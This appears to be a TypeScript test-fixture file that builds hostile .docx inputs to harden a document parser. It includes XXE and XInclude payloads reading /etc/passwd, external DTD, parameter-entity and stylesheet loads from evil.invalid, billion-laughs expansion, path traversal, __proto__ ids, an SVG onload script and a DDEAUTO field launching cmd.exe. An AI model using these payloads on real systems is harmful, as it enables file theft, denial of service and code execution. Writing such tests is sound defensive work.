import { strToU8, unzipSync, zipSync } from 'fflate';
import { buildDocx, buildPlainTable, p, r, tbl, tc, tr } from '../../test/support/documents/build-docx';
import { SAMPLE_HEADERS } from '../../test/support/documents/sample-annex';
import { createCases, editPart, MARKER } from './attack-case';

const MAIN = 'word/document.xml';
const MEGABYTE = 1024 * 1024;
const ROW = ['1', 'Lập kế hoạch', 'Văn phòng', 'Trường Thử', 'Kế hoạch', 'Quý I'];
const TABLE = buildPlainTable([...SAMPLE_HEADERS], ROW);

/** The sample annex with the XML of its document changed, or that of another part. */
const editMain = (annex: Uint8Array, edit: (xml: string) => string | Uint8Array, part = MAIN): Uint8Array =>
  editPart(annex, part, edit);

/** Puts text between the XML declaration and the first element. */
const addProlog = (xml: string, prolog: string): string =>
  xml.replace(/^(<\?xml[^>]*\?>)?\s*/, `$1${prolog}`);

const LAUGHS = `<!DOCTYPE a [<!ENTITY l0 "ha">${Array.from(
  { length: 30 },
  (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`,
).join('')}]>`;

/** A document whose body is this XML of Word. */
const write = (body: string): Uint8Array => buildDocx(body);

/** XML that asks for too much or means something else than it seems; then what Word's own elements can claim. */
export const XML_CASES = [
  ...createCases('xml', 'docx', {
    'billion laughs': ({ annex }) =>
      editMain(annex, (xml) => addProlog(xml, LAUGHS).replace(/<w:t(?: [^>]*)?>/, '$&&l30;')),
    'quadratic entity': ({ annex }) =>
      editMain(annex, (xml) =>
        addProlog(xml, `<!DOCTYPE a [<!ENTITY x "${'x'.repeat(50_000)}">]>`).replace(
          /<w:t(?: [^>]*)?>/,
          `$&${'&x;'.repeat(50_000)}`,
        ),
      ),
    'external entity': ({ annex }) =>
      editMain(annex, (xml) =>
        addProlog(xml, '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>').replace(
          /<w:t(?: [^>]*)?>/,
          '$&&x;',
        ),
      ),
    'external DTD': ({ annex }) =>
      editMain(annex, (xml) => addProlog(xml, '<!DOCTYPE a SYSTEM "http://evil.invalid/a.dtd">')),
    'parameter entity': ({ annex }) =>
      editMain(annex, (xml) =>
        addProlog(xml, '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.invalid/p"> %p;]>'),
      ),
    'entity that nobody declares': ({ annex }) =>
      editMain(annex, (xml) => xml.replace(/<w:t(?: [^>]*)?>/, '$&&nobody;')),
    'DOCTYPE in the relationships': ({ annex }) =>
      editMain(annex, (xml) => addProlog(xml, '<!DOCTYPE a [<!ENTITY x "y">]>'), '_rels/.rels'),
    'DOCTYPE in the content types': ({ annex }) =>
      editMain(annex, (xml) => addProlog(xml, LAUGHS), '[Content_Types].xml'),
    'elements 100,000 deep': ({ annex }) =>
      editMain(annex, (xml) => xml.replace('<w:body>', `<w:body>${'<w:sdt>'.repeat(100_000)}`)),
    'elements 250 deep': ({ annex }) =>
      editMain(annex, (xml) =>
        xml.replace(
          '<w:body>',
          `<w:body>${'<w:sdt><w:sdtContent>'.repeat(120)}${'</w:sdtContent></w:sdt>'.repeat(120)}`,
        ),
      ),
    '!attribute of 30 MB': ({ annex }) =>
      editMain(annex, (xml) => xml.replace('<w:body>', `<w:body w:x="${'x'.repeat(15 * MEGABYTE)}">`)),
    '!200,000 attributes': ({ annex }) =>
      editMain(annex, (xml) =>
        xml.replace(
          '<w:body>',
          `<w:body ${Array.from({ length: 200_000 }, (_, index) => `a${index}=""`).join(' ')}>`,
        ),
      ),
    'attribute twice': ({ annex }) => editMain(annex, (xml) => xml.replace('<w:p', '<w:p a="1" a="2"')),
    '50,000 namespaces': ({ annex }) =>
      editMain(annex, (xml) =>
        xml.replace(
          '<w:body>',
          `<w:body ${Array.from({ length: 50_000 }, (_, index) => `xmlns:n${index}="u"`).join(' ')}>`,
        ),
      ),
    'namespaces that change at each depth': ({ annex }) =>
      editMain(annex, (xml) =>
        xml.replace(
          '<w:body>',
          `<w:body>${Array.from({ length: 200 }, (_, index) => `<a xmlns:w="u${index}">`).join('')}${'</a>'.repeat(200)}`,
        ),
      ),
    'declared as UTF-16, in UTF-8': ({ annex }) =>
      editMain(annex, (xml) => xml.replace(/encoding="[^"]*"/, 'encoding="UTF-16"')),
    'declared as UTF-7': ({ annex }) =>
      editMain(annex, (xml) => xml.replace(/encoding="[^"]*"/, 'encoding="UTF-7"')),
    'in UTF-16, declared as UTF-8': ({ annex }) =>
      editMain(annex, (xml) => Buffer.from(`\ufeff${xml}`, 'utf16le')),
    'in UTF-32': ({ annex }) =>
      editMain(
        annex,
        (xml) =>
          new Uint8Array(
            Uint32Array.from([...xml].slice(0, 20_000), (letter) => letter.codePointAt(0)!).buffer,
          ),
      ),
    'bytes that are no UTF-8': ({ annex }) =>
      editMain(annex, (xml) =>
        Buffer.concat([
          strToU8(xml.slice(0, 2000)),
          Uint8Array.of(0xc0, 0x80, 0xff),
          strToU8(xml.slice(2000)),
        ]),
      ),
    NULs: ({ annex }) => editMain(annex, (xml) => xml.replace(/<w:t(?: [^>]*)?>/, '$&\0\0')),
    'references to characters that are none': ({ annex }) =>
      editMain(annex, (xml) => xml.replace(/<w:t(?: [^>]*)?>/, '$&&#x0;&#xFFFFFFFF;&#xD800;')),
    'no namespace': ({ annex }) => editMain(annex, (xml) => xml.replace(/xmlns:w="[^"]*"/, '')),
    'other namespace': ({ annex }) =>
      editMain(annex, (xml) => xml.replace(/xmlns:w="[^"]*"/, 'xmlns:w="urn:x"')),
    '!300,000 instructions': ({ annex }) =>
      editMain(annex, (xml) => addProlog(xml, '<?a b?>'.repeat(300_000))),
    '!500,000 comments': ({ annex }) => editMain(annex, (xml) => addProlog(xml, '<!-- -->'.repeat(500_000))),
    'style sheet that is loaded': ({ annex }) =>
      editMain(annex, (xml) => addProlog(xml, '<?xml-stylesheet href="http://evil.invalid/a.xsl"?>')),
    'comment that never ends': ({ annex }) =>
      editMain(annex, (xml) => xml.replace('<w:body>', '<w:body><!-- ')),
    'CDATA that never ends': ({ annex }) =>
      editMain(annex, (xml) => xml.replace('<w:body>', '<w:body><![CDATA[')),
    'two roots': ({ annex }) => editMain(annex, (xml) => xml + xml.replace(/^<\?xml[^>]*\?>/, '')),
    'no root': ({ annex }) => editMain(annex, () => '   '),
    XInclude: ({ annex }) =>
      editMain(annex, (xml) =>
        xml.replace(
          '<w:body>',
          '<w:body><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file:///etc/passwd"/>',
        ),
      ),
    'relationship to a file of the machine': ({ annex }) =>
      editMain(annex, (xml) => xml.replaceAll('word/document.xml', 'file:///etc/passwd'), '_rels/.rels'),
    'relationship that climbs': ({ annex }) =>
      editMain(annex, (xml) => xml.replaceAll('word/document.xml', '../../../../etc/passwd'), '_rels/.rels'),
    'relationship to itself': ({ annex }) =>
      editMain(annex, (xml) => xml.replaceAll('word/document.xml', '_rels/.rels'), '_rels/.rels'),
    'relationship names of prototypes': ({ annex }) =>
      editMain(annex, (xml) => xml.replace(/Id="[^"]*"/, 'Id="__proto__"'), '_rels/.rels'),
    'scripts in an SVG part': ({ annex }) =>
      zipSync({ ...unzipSync(annex), 'word/media/a.svg': strToU8(`<svg onload="${MARKER}"/>`) }),
  }),
  ...createCases('spans', 'docx', {
    'gridSpan of 1,000,000,000': () =>
      write(
        tbl(
          tr(SAMPLE_HEADERS.map((text) => tc(text))),
          tr(ROW.map((text) => tc(text, '<w:gridSpan w:val="1000000000"/>'))),
        ),
      ),
    'gridSpan below zero': () =>
      write(
        tbl(
          tr(SAMPLE_HEADERS.map((text) => tc(text))),
          tr(ROW.map((text) => tc(text, '<w:gridSpan w:val="-5"/>'))),
        ),
      ),
    'gridSpan that is no number': () =>
      write(
        tbl(
          tr(SAMPLE_HEADERS.map((text) => tc(text))),
          tr(ROW.map((text) => tc(text, '<w:gridSpan w:val="1e9"/>'))),
        ),
      ),
    'gridBefore of 2,000,000,000': () =>
      write(
        tbl(
          tr(SAMPLE_HEADERS.map((text) => tc(text))),
          tr(
            ROW.map((text) => tc(text)),
            '<w:gridBefore w:val="2000000000"/>',
          ),
        ),
      ),
    'vMerge that nothing begins': () =>
      write(tbl(tr(SAMPLE_HEADERS.map((text) => tc(text))), tr(ROW.map((text) => tc(text, '<w:vMerge/>'))))),
    '!vMerge over 15,000 rows': () =>
      write(
        tbl(
          tr(SAMPLE_HEADERS.map((text) => tc(text))),
          ...Array.from({ length: 15_000 }, () => tr(ROW.map((text) => tc(text, '<w:vMerge/>')))),
        ),
      ),
    '!gridCol 100,000 times': () =>
      write(
        `<w:tbl><w:tblGrid>${'<w:gridCol w:w="1"/>'.repeat(100_000)}</w:tblGrid>${tr(SAMPLE_HEADERS.map((text) => tc(text)))}${tr(ROW.map((text) => tc(text)))}</w:tbl>`,
      ),
    '!row of 5,000 cells': () =>
      write(tbl(tr(Array.from({ length: 5_000 }, () => tc('x'))), tr(ROW.map((text) => tc(text))))),
    '!19,000 rows that all look like headers': () =>
      write(buildPlainTable(...Array.from({ length: 19_000 }, () => [...SAMPLE_HEADERS]))),
    '!2,000 tables': () => write(Array.from({ length: 2_000 }, () => TABLE + p()).join('')),
    'tables 60 deep': () =>
      write('<w:tbl><w:tr><w:tc>'.repeat(60) + p('x') + `${'</w:tc></w:tr></w:tbl>'.repeat(60)}`),
    'tables 5,000 deep': () =>
      write('<w:tbl><w:tr><w:tc>'.repeat(5_000) + p('x') + `${'</w:tc></w:tr></w:tbl>'.repeat(5_000)}`),
    '!million empty paragraphs': () => write('<w:p/>'.repeat(1_000_000) + TABLE),
    '!cell of 200,000 paragraphs': () =>
      write(
        tbl(
          tr(SAMPLE_HEADERS.map((text) => tc(text))),
          tr([...ROW.slice(0, 5).map((text) => tc(text)), tc('<w:p/>'.repeat(200_000))]),
        ),
      ),
    '!paragraph of 300,000 runs': () => write(`<w:p>${r('a').repeat(300_000)}</w:p>${TABLE}`),
    'list 100 deep, from 1e9': () =>
      buildDocx(
        Array.from({ length: 100 }, (_, level) =>
          p('x', `<w:numPr><w:ilvl w:val="${level}"/><w:numId w:val="1"/></w:numPr>`),
        ).join('') + TABLE,
        {
          numbering:
            '<w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:start w:val="1000000000"/><w:numFmt w:val="upperRoman"/><w:lvlText w:val="%1%1%1%1%1%1%1%1%9"/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>',
        },
      ),
    'list in letters, from 2,000,000,000': () =>
      buildDocx(p('x', '<w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr>') + TABLE, {
        numbering:
          '<w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:start w:val="2000000000"/><w:numFmt w:val="lowerLetter"/><w:lvlText w:val="%1"/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>',
      }),
    'styles based on each other': () =>
      buildDocx(TABLE, {
        styles:
          '<w:style w:styleId="a"><w:basedOn w:val="b"/></w:style><w:style w:styleId="b"><w:basedOn w:val="a"/></w:style><w:style w:styleId="__proto__"><w:basedOn w:val="__proto__"/></w:style>',
      }),
    '!20,000 styles, each based on the next': () =>
      buildDocx(p('x', '<w:pStyle w:val="s0"/>') + TABLE, {
        styles: Array.from(
          { length: 20_000 },
          (_, index) => `<w:style w:styleId="s${index}"><w:basedOn w:val="s${index + 1}"/></w:style>`,
        ).join(''),
      }),
    'fields that run programs': () =>
      write(
        p(
          `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "${MARKER}"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`,
        ) + `<w:fldSimple w:instr="INCLUDETEXT http://evil.invalid/${MARKER}"/>${TABLE}`,
      ),
    'fields 5,000 in one another': () =>
      write(`<w:p>${'<w:r><w:fldChar w:fldCharType="begin"/></w:r>'.repeat(5_000)}</w:p>${TABLE}`),
  }),
];
